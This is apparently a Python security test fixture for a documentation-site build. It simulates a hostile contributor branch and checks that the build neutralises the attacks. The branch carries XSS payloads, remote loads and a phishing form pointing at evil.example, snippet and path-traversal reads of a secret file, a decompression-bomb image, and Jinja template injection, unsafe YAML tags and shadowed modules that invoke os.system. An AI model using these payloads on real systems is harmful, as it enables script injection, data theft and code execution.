"""A plan on main, and a stranger's branch in which every file is an attack. Whatever runs leaves a mark in a folder."""

from __future__ import annotations

import struct
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from tests.comparing.building import BASE
from tests.repositories import commit, git, start, write

SECRET = "the secret of this machine"
MINE = "window.stolen=1"
SCRIPT = f"<script>{MINE}</script>"

SETTINGS = """\
site_name: Plan
docs_dir: content
site_dir: site
use_directory_urls: false
theme: {name: material, font: false, custom_dir: overrides}
plugins: [search, tags, planpress]
hooks: [hooks.py]
extra_css: [extra.css]
extra: {generator: false}
markdown_extensions:
  - admonition
  - attr_list
  - md_in_html
  - tables
  - toc: {permalink: true}
  - pymdownx.snippets
"""

BASE_FILES: Mapping[str, str] = {
    **BASE,
    "mkdocs.yml": SETTINGS,
    "hooks.py": "# nothing\n",
    "overrides/main.html": '{% extends "base.html" %}{% block announce %}OF THE BASE{% endblock %}',
    "templates/theme/base-only.txt": "of the base",
    "content/extra.css": "p { color: inherit }\n",
    "content/logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"/>',
    "content/own.md": "# Own\n\n<div onclick=\"own()\">The team's own HTML</div>\n\n{{ 7*191 }}\n",
    "secret.txt": SECRET,
}

# What each page of the branch tries, and what there is in the site where it comes through.
PAGES: Mapping[str, tuple[str, str]] = {
    "script": (f"# T\n\n{SCRIPT}\n", r"<script>window\.stolen"),
    "handler": (f'# T\n\n<img src="x.png" onerror="{MINE}">\n', r"onerror="),
    "attr-list": (f'# T\n\nWords\n{{: onclick="{MINE}" }}\n', r"onclick=\"window"),
    "attr-list-heading": (f'# T {{: onclick="{MINE}" }}\n\nWords\n', r"onclick=\"window"),
    "attr-list-style": ('# T\n\nWords\n{: style="position:fixed;inset:0" }\n', r"position:fixed"),
    "md-in-html": (f'# T\n\n<div markdown onmouseover="{MINE}">\n**x**\n</div>\n', r"onmouseover"),
    "link-scheme": (f"# T\n\n[x](javascript:{MINE})\n", r"href=\"javascript:"),
    "link-data": ("# T\n\n[x](data:text/html;base64,PHN2Zz4=)\n", r"href=\"data:"),
    "link-disguised": (f'# T\n\n<a href="jav&#x09;ascript:{MINE}">x</a>\n', r"href=\"[^\"]*ascript:"),
    "remote-image": ("# T\n\n![x](https://evil.example/p.png)\n", r"src=\"https://evil"),
    "remote-image-by-protocol": ('# T\n\n<img src="//evil.example/p.png">\n', r"src=\"//evil"),
    "remote-image-by-backslash": ('# T\n\n<img src="/\\evil.example/p.png">\n', r"src=\"/\\evil"),
    "remote-script": ('# T\n\n<script src="https://evil.example/x.js"></script>\n', r"<script src=\"https://evil"),
    "remote-style": ('# T\n\n<link rel="stylesheet" href="https://evil.example/x.css">\n', r"evil\.example/x\.css"),
    "style-import": ("# T\n\n<style>@import url(https://evil.example/x.css);</style>\n", r"@import url\(https"),
    "meta-refresh": ('# T\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n', r"http-equiv=\"refresh"),
    "base": ('# T\n\n<base href="https://evil.example/">\n', r"<base "),
    "iframe": ('# T\n\n<iframe srcdoc="x" src="https://evil.example/"></iframe>\n', r"<iframe"),
    "object": ('# T\n\n<object data="x.swf"></object><embed src="x.swf">\n', r"<object|<embed"),
    "form": ('# T\n\n<form action="https://evil.example/"><input type="password"></form>\n', r"evil\.example/\"|password"),
    "svg": (f"# T\n\n<svg onload=\"{MINE}\"><script>{MINE}</script></svg>\n", r"<svg onload"),
    "settings-of-the-theme": ('# T\n\n<div id="__config">{"base":"https://evil.example"}</div>\n', r"id=\"__config\">\{\"base\":\"https"),
    "settings-by-attr-list": ("# T\n\n## Sub {: #__config }\n", r"id=\"__config\">Sub"),
    "diagram-from-elsewhere": ('# T\n\n<pre class="mermaid"><code>graph</code></pre>\n', r"class=\"mermaid"),
    "overlay": ('# T\n\n<div class="md-overlay md-dialog">x</div>\n', r"class=\"md-overlay md-dialog"),
    "heading": (f"# T\n\n## <img src='x' onerror='{MINE}'>\n", r"<img src='x' onerror"),
    "title-of-heading": (f"# &lt;/title&gt;&lt;script&gt;{MINE}&lt;/script&gt;\n", r"</title><script>window"),
    "title": (f'---\ntitle: "</title>{SCRIPT}"\n---\n\nWords\n', r"<script>window\.stolen"),
    "description": (f"---\ndescription: '\">{SCRIPT}'\n---\n# T\n", r"<script>window\.stolen"),
    "tags": (f'---\ntags: ["<img src=x onerror={MINE}>"]\n---\n# T\n', r"<img src=x onerror"),
    "listing-of-tags": ('# T\n\n<!-- material/tags { scope: false } -->\n', r"<a class=\"md-tag|<h2 id=\"tag:|<span class=\"md-tag"),
    "hiding": ("---\nhide: [navigation]\n---\n# T\n", r"md-sidebar--primary\"[^>]*hidden"),
    "template": ("---\ntemplate: 404.html\n---\n# T\n", r"404 - Not found"),
    "template-without-marks": ("template: 404.html\n\n# T\n", r"404 - Not found"),
    "table-cell": (f"# T\n\n| a |\n|---|\n| <img src='x' onerror='{MINE}'> |\n", r"<img src='x' onerror"),
    "snippet": ('# T\n\n--8<-- "secret.txt"\n', SECRET),
    "path-outside": ('# T\n\n<img src="../../../secret.txt">\n', r"src=\"\.\./\.\./\.\./secret"),
}  # fmt: skip


def _png(width: int, height: int) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII5s", 13, b"IHDR", width, height, b"\x08\2\0\0\0") + b"\0" * 8


# Files that would be published as they are.
FILES: Mapping[str, bytes] = {
    "evil.html": SCRIPT.encode(),
    "evil.htm": SCRIPT.encode(),
    "evil.svg": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>".encode(),
    "evil.js": MINE.encode(),
    "evil.xml": b"<x/>",
    "projects/pose/evil.xhtml": SCRIPT.encode(),
    "picture.png": SCRIPT.encode(),
    "bomb.png": _png(60_000, 60_000),
    "404.html": b"evil",
    "sitemap.xml": b"evil",
    "plan.json": b'{"evil": 1}',
    "what-changed.md": b"# Nothing changed\n",
    "Scoring.md": b"# Scoring\n",
    "evil.MD": SCRIPT.encode(),
    "CNAME": b"evil.example",
    "_headers": b"evil",
    "_redirects": b"/* https://evil.example/",
    "robots.txt": b"evil",
    "content-security-policy.txt": b"default-src *",
    "assets/planpress/tables.js": MINE.encode(),
    "assets/images/favicon.png": _png(1, 1),
    "search/search_index.json": b'{"evil": 1}',
    f"<img src=x onerror={MINE}>.md": b"# T\n",
    "--option.md": b"# T\n",
    ".htaccess": b"evil",
    "extra.css": b"@import url(https://evil.example/x.css);",
    "logo.svg": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>".encode(),
}

HONEST: Mapping[str, bytes] = {
    "drawing.png": _png(10, 10),
    "projects/pose/more.csv": b"a,b\n1,2\n",
    "honest.md": b'---\ntitle: Q&A "quoted"\n---\n# Honest\n\nWords, a [link](own.md) and ![a drawing](drawing.png).\n\n!!! note\n    Said.\n',
}  # fmt: skip


@dataclass(frozen=True)
class Change:
    """The repository, on the stranger's branch, and the folder in which marks are left."""

    root: Path
    marks: Path


def begin(folder: Path) -> Change:
    """The base alone, with an empty branch upon it."""
    change = Change(folder / "plan", folder / "marks")
    change.marks.mkdir()
    start(change.root, {**BASE_FILES, ".gitignore": "/site/\n/.cache/\n"})
    git(change.root, "checkout", "-qb", "topic")
    return change


def attack(change: Change) -> None:
    """Put pages, files and texts of the stranger's into content/."""
    content = change.root / "content"
    (content / "attacks").mkdir()
    for name, (text, _) in PAGES.items():
        (content / "attacks" / f"{name}.md").write_text(text, encoding="utf-8")
    for path, data in {**FILES, **HONEST}.items():
        (content / path).parent.mkdir(parents=True, exist_ok=True)
        (content / path).write_bytes(data)
    jinja = f"{{{{ cycler.__init__.__globals__.os.system('touch {change.marks}/page') }}}}"
    write(change.root, {"content/jinja.md": f"# Jinja\n\n{{{{ 7*191 }}}} {jinja}\n"})


def attack_code(change: Change) -> None:
    """Change everything around content/ so that it leaves a mark as soon as it is used."""
    marks = change.marks

    def python(name: str) -> str:
        return f"open({str(marks / name)!r}, 'w').close()\n"

    def jinja(name: str) -> str:
        return f"{{{{ cycler.__init__.__globals__.os.system('touch {marks / name}') }}}}"

    write(
        change.root,
        {
            "hooks.py": python("hook"),
            "mkdocs.yml": SETTINGS + f"x: !!python/object/apply:os.system ['touch {marks / 'settings'}']\n",
            "overrides/main.html": f'{{% extends "base.html" %}}{{% block announce %}}{jinja("theme")}{{% endblock %}}',
            "templates/pages/portfolio.md.j2": jinja("template"),
            "templates/theme/partials/footer.html": jinja("partial"),
            **{f"{name}.py": python(f"module-{name}") for name in ("yaml", "mkdocs", "planpress", "sitecustomize")},
        },
    )


def settle(change: Change) -> None:
    """Commit what the stranger wrote."""
    commit(change.root, "please merge")
